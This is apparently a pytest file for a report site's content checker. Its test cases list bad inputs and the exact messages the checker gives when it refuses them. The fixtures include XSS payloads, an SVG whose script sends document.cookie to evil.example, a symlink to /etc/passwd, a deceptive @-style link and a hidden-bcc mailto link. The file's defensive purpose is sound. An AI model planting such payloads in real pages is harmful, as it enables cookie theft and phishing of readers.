    ("chapter-words-with-a-pasted-script", NET_ZERO, append("\nOur year. <script>alert(1)</script>\n"), [
        f"chapters/net-zero.qmd:21: a <script> element is not allowed in a page's words — {_PASTED}",
    ]),
    ("chapter-words-with-a-pasted-frame-and-form", NET_ZERO,
     append('\n<iframe src="https://example.org/film"></iframe>\n\n<form action="https://example.org"><input name=x></form>\n'), [
        f"chapters/net-zero.qmd:21: a <iframe> element is not allowed in a page's words — {_PASTED}",
        f"chapters/net-zero.qmd:23: a <form> element is not allowed in a page's words — {_PASTED}",
    ]),
    ("chapter-words-with-an-event-attribute", NET_ZERO, append('\nOur <b onmouseover="alert(1)">year</b>.\n'), [
        f"chapters/net-zero.qmd:21: an event attribute onmouseover= on <b> would run script — {_PASTED}",
    ]),
    ("chapter-words-with-a-javascript-link", NET_ZERO, append("\nSee [our year](&#106;avascript:alert(1)).\n"), [
        "chapters/net-zero.qmd:21: a link to a javascript: address would run script or read the reader's own files "
        "— link a full web address (https://…) or a page of the report",
    ]),
    ("chapter-words-with-a-picture-from-another-site", "chapters/_words.md",
     also(write("Our year.\n\n![Our van](https://tracker.example/van.png)\n"), NET_ZERO,
          append("\n{{< include _words.md >}}\n")), [
        "chapters/_words.md:3: the picture 'https://tracker.example/van.png' is on another site: every reader's "
        "visit would be told to it, and the PDF cannot print it — save the picture in the project (figures/…) and "
        "show it by its path",
    ]),
]

# Found by the engine only after rendering, and published by `quarto render` with a warning at most (a broken
# link, a link that opens the page at its top, "?@tbl-nope" in the text, two elements of one id): the check,
# which Quarto's pre-render step runs, refuses them at the line they are typed (site/page_links.py).
CASES += [
    ("chapter-unknown-cross-reference", NET_ZERO, append("\nSee @tbl-nope.\n"), [
        "chapters/net-zero.qmd:21: '@tbl-nope' refers to a label that does not exist — check the spelling, or add '#| label: tbl-nope' to the cell",
    ]),
    # Quarto resolves a cross-reference within its page only: it printed "?@tbl-net-zero-measures"
    ("chapter-cross-reference-to-another-page", "chapters/poverty.qmd", append("\nSee @tbl-net-zero-measures.\n"), [
        "chapters/poverty.qmd:18: '@tbl-net-zero-measures' refers to a table on chapters/net-zero.qmd; Quarto resolves "
        "cross-references within one page of a website — link to it instead: [table](net-zero.qmd#tbl-net-zero-measures)",
    ]),
    # pandoc only warns of a heading id used twice, named by its line in the page put together, not the line typed
    ("chapter-heading-id-used-twice", NET_ZERO, sub("## Measures\n", "## Measures {#measures}\n\n## Our measures {#measures}\n"), [
        "chapters/net-zero.qmd:11: the heading id 'measures' is already the id of the heading at chapters/net-zero.qmd:9 — "
        "give this heading its own id: ## Our measures {#measures-1}",
    ]),
    # an explicit id that pandoc's own id of a heading above has: pandoc only warns, and a link finds the first
    ("chapter-heading-id-taken-from-a-heading-above", NET_ZERO,
     sub("## Partner contributions\n", "## Our measures {#measures}\n\n## Partner contributions\n"), [
        "chapters/net-zero.qmd:17: the heading id 'measures' is already the id of the heading at chapters/net-zero.qmd:9 — "
        "give this heading its own id: ## Our measures {#measures-1}",
    ]),
    # a link to a page by its .html name that does not exist was published as a broken link (.qmd links were checked)
    ("chapter-link-to-a-page-that-does-not-exist", NET_ZERO, append("\nSee [the poverty chapter](povery.html).\n"), [
        "chapters/net-zero.qmd:21: links to 'povery.html', which is not a page of the site — fix the link: a page is "
        "linked by its own file's name (poverty.qmd for poverty.html)",
    ]),
    ("chapter-link-to-a-missing-page-by-its-source", NET_ZERO,
     append("\nSee [the plan](nope.qmd) and [the old plan](../chapters/missing.html).\n"), [
        "chapters/net-zero.qmd:21: links to '../chapters/missing.html', which is not a page of the site — fix the link: "
        "a page is linked by its own file's name (poverty.qmd for poverty.html)",
        "chapters/net-zero.qmd:21: links to 'nope.qmd', which is not a page of the site — add it to project.render or "
        "fix the link",
    ]),
    # typed in the words a chapter includes, over two lines: the message names the file and the line of the address
    ("chapter-link-in-included-words-to-a-missing-place", "chapters/_words.md",
     also(write("Our year.\n\nSee [the\nmeasures](poverty.qmd#measures-of-poverty).\n"), NET_ZERO,
          append("\n{{< include _words.md >}}\n")), [
        "chapters/_words.md:4: links to 'poverty.qmd#measures-of-poverty', but chapters/poverty.html has no place with the "
        "id 'measures-of-poverty' — link to a heading by its id (## Poverty today {#today} has the id 'today'), or "
        "leave out the '#…' part to link to the top of the page",
    ]),
    # a link to a place in a page that has no such id was published, and opened the page at its top
    ("chapter-link-to-an-id-that-does-not-exist", NET_ZERO,
     append("\nSee [the poverty chapter](poverty.qmd#nope) and [this page's measures](#measures-here).\n"), [
        "chapters/net-zero.qmd:21: links to '#measures-here', but chapters/net-zero.html has no place with the id "
        "'measures-here' — link to a heading by its id (## Poverty today {#today} has the id 'today'), or leave out "
        "the '#…' part to link to the top of the page",
        "chapters/net-zero.qmd:21: links to 'poverty.qmd#nope', but chapters/poverty.html has no place with the id "
        "'nope' — link to a heading by its id (## Poverty today {#today} has the id 'today'), or leave out the '#…' "
        "part to link to the top of the page",
    ]),
]

def link_to(target: str) -> Change:
    """Make the file a symbolic link to ``target`` (a file of the build machine, outside the project)."""
    def change(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
    return change


# What a chapter's words could publish or print of the build machine, or a link that opens a place its words do
# not show (the red-team of sec16): both renderers published them; the check (so `quarto render`) refuses them.
CASES += [
    ("chapter-picture-given-by-a-reference-to-another-site", "chapters/_words.md",
     also(write("Our year.\n\n![Our van][van]\n\n[van]: https://tracker.example/van.png\n"), NET_ZERO,
          append("\n{{< include _words.md >}}\n")), [
        "chapters/_words.md:5: the picture 'https://tracker.example/van.png' is on another site: every reader's "
        "visit would be told to it, and the PDF cannot print it — save the picture in the project (figures/…) and "
        "show it by its path",
    ]),
    ("chapter-picture-at-a-path-of-the-build-machine", NET_ZERO, append("\n![Logo](/usr/share/pixmaps/logo.png)\n"), [
        "chapters/net-zero.qmd:21: the picture '/usr/share/pixmaps/logo.png' is given by a path starting with /, which "
        "the build's site does not show (and its PDF step would read from the build machine's disk) — save the "
        "picture in the project and write its path from the page (../figures/… from a chapter)",
    ]),
    ("chapter-picture-that-is-a-link-out-of-the-project", "figures/logo.png",
     also(link_to("/etc/passwd"), NET_ZERO, append("\n![Logo](../figures/logo.png)\n")), [
        "figures/logo.png: is a link to a file outside the project (/etc/passwd): a page that shows or links it would "
        "publish that file of the build machine — copy the file itself into the project in place of the link",
    ]),
    ("chapter-svg-picture-with-a-script", "figures/map.svg",
     also(write('<svg xmlns="http://www.w3.org/2000/svg">\n<script>fetch("https://evil.example/?c="+document.cookie)'
                '</script>\n</svg>\n'), NET_ZERO, append("\n![Map](../figures/map.svg)\n")), [
        "figures/map.svg:2: the picture holds a <script> element, which runs when the picture is opened — remove it (an "
        "editor's 'export as plain SVG' or 'optimise' leaves the drawing alone), or save the picture as .png",
    ]),
    # under quarto render a title's shortcode runs, escaped or not: '{{< env HOME >}}' printed the build machine's
    ("edition-subtitle-with-a-shortcode", EDITION, sub("subtitle: Change today", "subtitle: Change {{< env HOME >}}"), [
        "data/editions/2025.yml:4: {{ followed by < is read by quarto render as a shortcode ({{< … >}}), even in a "
        "measure's name or a title, where it would run (it can print the build machine's settings) — put a space "
        "between {{ and <, or leave the braces out",
    ]),
    ("chapter-link-with-a-user-name-before-the-site", NET_ZERO,
     append("\nApply at [the council](https://luton.gov.uk@evil.example/grants).\n"), [
        "chapters/net-zero.qmd:21: the link 'https://luton.gov.uk@evil.example/grants' goes to evil.example, not to "
        "luton.gov.uk: a browser reads what stands before the @ as a user name and opens the site after it — write the "
        "address of the page itself, without a user name and @ (https://evil.example/… if evil.example is meant)",
    ]),
    # a link left half typed was published as a link that opens nothing (the sixteenth session's trial)
    ("partner-link-to-no-site", FOOD, write(PARTNER.format(body="See [our website](https://) for more.")), [
        "partners/poverty/example-food-project.md:7: the link 'https://' names no site, so it opens nothing — write "
        "the whole address of the page (https://www.example.org/…), or leave the link out",
    ]),
    ("partner-email-link-with-a-hidden-recipient", FOOD,
     write(PARTNER.format(body="Write to [our team](mailto:team@example.org?bcc=list@evil.example).")), [
        "partners/poverty/example-food-project.md:7: the email link 'mailto:team@example.org?bcc=list@evil.example' "
        "adds a recipient the page does not show (bcc=) — link one address alone, such as [email us]"
        "(mailto:info@example.org); a subject (?subject=…) is allowed",
    ]),
]

# Problems only the build finds (they need the chapters executed): `build` only.
BUILD_CASES = [
    ("chapter-cell-raises", NET_ZERO, append("\n```{python}\nshare = 1 / 0\n```\n"), [
        'chapters/net-zero.qmd:22: Python error in cell: ZeroDivisionError: division by zero — fix the code in this cell',
    ]),
    # a cell's closing ``` left out: Python was given the words after it and the next cell's fence, and the message
    # was "SyntaxError: invalid syntax (2004345345.py, line 6)"
    ("chapter-cell-not-closed-before-the-next", NET_ZERO, sub("## Measures\n", "```{python}\nshare = 1\n\nOur words.\n\n## Measures\n"), [
        "chapters/net-zero.qmd:9: the cell opened on this line is not closed before line 16, so Python is given the "
        "lines after it as code — add a line ``` where the cell's code ends",
    ]),
    # the same in a chapter's words, running on into the page that includes them: the message names that page
    ("chapter-cell-in-included-words-not-closed", "chapters/_words.md",
     also(write("```{python}\nshare = 1\n\nOur words.\n"), NET_ZERO, sub("## Measures\n", "{{< include _words.md >}}\n\n## Measures\n")), [
        "chapters/_words.md:1: the cell opened on this line is not closed before chapters/net-zero.qmd:13, so Python is "
        "given the lines after it as code — add a line ``` where the cell's code ends",
    ]),
    ("chapter-inline-expression-raises", "chapters/poverty.qmd",
     append('\nNew figure: `{python} round(1 / 0)`.\n'), [
        'chapters/poverty.qmd:18: Python error in inline expression `round(1 / 0)`: ZeroDivisionError: division by zero — fix the expression',
    ]),
    ("chapter-unsupported-shortcode", NET_ZERO, append("\n{{< video https://example.org/film.mp4 >}}\n"), [
        'chapters/net-zero.qmd:21: the shortcode {{< video >}} is not supported — use {{< include file >}} or plain markdown',
    ]),
    ("chapter-missing-include", NET_ZERO, append("\n{{< include _missing.md >}}\n"), [
        "chapters/net-zero.qmd:21: cannot include '_missing.md': file not found — fix the path (it is relative to "
        "the page, even in an included file; start it with / to give it from the project's folder)",
    ]),
    ("chapter-r-chunk", NET_ZERO, append("\n```{r}\nsummary(x)\n```\n"), [
        'chapters/net-zero.qmd:21: {r} code chunks are not supported (only {python} runs) — rewrite the chunk in Python, or make it a plain code block',
    ]),
    # A picture added to a chapter's words (in the file the chapter includes) under a wrong name: the
    # message used to name the chapter page, with no line, not the file the editor typed it in.
    ("chapter-picture-missing-in-included-words", "chapters/_words.md",
     also(write("Our year in pictures.\n\n![The new library](../figures/library.png)\n"),
          NET_ZERO, append("\n{{< include _words.md >}}\n")), [
        "chapters/_words.md:3: the file '../figures/library.png' does not exist — fix the path (it is relative to the page, chapters/net-zero.qmd, even in an included file)",
    ]),
    # a space in the name: the message gave pandoc's %20, the page and no line
    ("chapter-picture-with-a-space-missing-in-included-words", "chapters/_words.md",
     also(write("Our year in pictures.\n\n![The new library](../figures/new library.png)\n"),
          NET_ZERO, append("\n{{< include _words.md >}}\n")), [
        "chapters/_words.md:3: the file '../figures/new library.png' does not exist — fix the path (it is relative to the page, chapters/net-zero.qmd, even in an included file)",
    ]),
    ("config-missing-chapter", "_quarto.yml", sub("chapters/net-zero.qmd", "chapters/netzero.qmd"), [
        "_quarto.yml:19: website.sidebar.contents lists 'chapters/netzero.qmd', which does not exist — create it or fix the path",
    ]),
    ("config-unsupported-option", "_quarto.yml", append("bibliography: references.bib\n"), [
        "_quarto.yml:23: the option 'bibliography' is not supported by the embedded engine — remove it, or use one of: execute, format, lang, number-sections, profile, project, website",
    ]),
]

AWKWARD = [
    ("csv-excel-utf8-bom", OBS, bom),
    ("csv-windows-line-ends", OBS, crlf),
    ("csv-trailing-blank-line", OBS, blank_end),
    ("csv-excel-bom-crlf-and-blank-end", "data/measures.csv", excel),
    ("targets-excel-bom-crlf", TARGETS, excel),
    ("partner-bom-and-windows-line-ends", FOOD, excel),
    ("edition-windows-line-ends", EDITION, crlf),
    ("chapter-windows-line-ends", NET_ZERO, crlf),
]


def run(capsys, root: Path, command: str) -> tuple[int, str, str]:
    args = ["--project", str(root), command] + (["--quiet"] if command == "build" else [])
    code = main(args)
    out, err = capsys.readouterr()
    return code, out, err


def changed_copy(built_book: Path, tmp_path: Path, file: str, change: Change) -> Path:
    root = tmp_path / "book"
    shutil.copytree(built_book, root)
    change(root / file)
    return root


def check_refused(capsys, root: Path, command: str, expected: list[str], words_checked: bool = False) -> None:
    before = hashes(root / "_site")
    code, out, err = run(capsys, root, command)
    assert "Traceback" not in out + err
    # "{today}" is the day the check runs, not the day the cases were collected (a run crossing midnight)
    expected = [line.replace("{today}", date.today().isoformat()) for line in expected]
    assert err.splitlines() == expected + [SUMMARY.format(n=len(expected))] + ([] if words_checked else [NOT_CHECKED])
    assert code == 1
    assert hashes(root / "_site") == before, "a refused build must leave _site/ exactly as it was"
    assert not [p.name for p in root.iterdir() if p.name.startswith("_site.")]


@pytest.mark.parametrize("command", ["check", "build"])
@pytest.mark.parametrize("case, file, change, expected", CASES, ids=[c[0] for c in CASES])
def test_bad_input_is_refused_with_its_exact_message(capsys, tmp_path, built_book, case, file, change, expected,
                                                     command):
    root = changed_copy(built_book, tmp_path, file, change)
    check_refused(capsys, root, command, expected, words_checked=case in {c[0] for c in WORDS_CASES})


@pytest.mark.parametrize("case, file, change, expected", BUILD_CASES, ids=[c[0] for c in BUILD_CASES])
def test_bad_chapter_fails_the_build_with_its_exact_message(capsys, tmp_path, built_book, case, file, change,
                                                            expected):
    root = changed_copy(built_book, tmp_path, file, change)
    check_refused(capsys, root, "build", expected, words_checked=True)  # (the check passed: the build runs the pages)


@pytest.mark.parametrize("case, file, change", AWKWARD, ids=[c[0] for c in AWKWARD])
def test_awkward_but_valid_file_builds_the_same_site(capsys, tmp_path, built_book, case, file, change):
    """From a copy of the clean book's build (warm: the pages that read the changed file run again)."""
    clean = hashes(built_book / "_site")
    root = changed_copy(built_book, tmp_path, file, change)
    assert (root / file).read_bytes() != (built_book / file).read_bytes(), "the change must change the file"
    code, out, err = run(capsys, root, "check")
    assert (code, err) == (0, "")
    assert out == "Data and partner files are valid (0 warning(s)).\n"
    code, out, err = run(capsys, root, "build")
    assert (code, err) == (0, "")
    assert hashes(root / "_site") == clean


def test_a_link_to_a_place_a_page_has_is_published(capsys, tmp_path, built_book):
    """The check of links to ids refuses only ids the page lacks: a heading's id and a table's label land."""
    poverty = (built_book / "_site/chapters/poverty.html").read_text(encoding="utf-8")
    heading = re.search(r'<section id="([^"]+)" class="level2', poverty).group(1)
    table = re.search(r'\sid="(tbl-[^"]+)"', (built_book / "_site/chapters/net-zero.html").read_text()).group(1)
    root = changed_copy(built_book, tmp_path, NET_ZERO,
                        append(f"\nSee [the poverty chapter](poverty.qmd#{heading}) and [the table](#{table}).\n\n"
                               "[Back to the top](#title-block-header)\n"))
    code, out, err = run(capsys, root, "build")
    assert (code, err) == (0, "")
    page = (root / "_site/chapters/net-zero.html").read_text(encoding="utf-8")
    assert f'href="poverty.html#{heading}"' in page and f'href="#{table}"' in page
    assert 'href="#title-block-header"' in page  # an id of the page's frame, not of its body


def test_a_table_saved_again_by_excel_publishes_the_same_data_download(tmp_path):
    """A table without internal columns (areas.csv, priorities.csv…) was published as saved: opened and
    saved in Excel (a byte-order mark, Windows line ends, a blank last line) its download changed, and
    the build warned that the published report had changed, though its data had not."""
    root = make_book(tmp_path / "book")
    edition = load(root).editions[2025]
    clean = downloads.edition_files(root, edition)
    for path in sorted((root / "data").glob("*.csv")):
        excel(path)
    append("   \n")(root / "data/areas.csv")  # a last line of spaces is no row either
    assert downloads.edition_files(root, edition) == clean


def test_the_corpus_is_big_enough():
    assert len(CASES) + len(BUILD_CASES) >= 40
    assert len({c[0] for c in CASES + BUILD_CASES + AWKWARD}) == len(CASES) + len(BUILD_CASES) + len(AWKWARD)
